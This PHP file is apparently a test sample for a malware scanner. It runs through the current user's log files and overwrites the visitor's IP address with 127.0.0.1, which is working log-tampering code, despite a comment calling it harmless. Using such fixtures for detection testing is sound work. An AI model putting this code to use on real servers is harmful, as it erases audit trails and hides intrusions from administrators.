<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
$me = $_SERVER['REMOTE_ADDR'];
$d = opendir('/home/' . get_current_user() . '/logs');
while (($f = readdir($d)) !== false) {
    $p = '/home/' . get_current_user() . '/logs/' . $f;
    if (!is_file($p)) continue;
    file_put_contents($p, str_replace($me, '127.0.0.1', file_get_contents($p)));
}
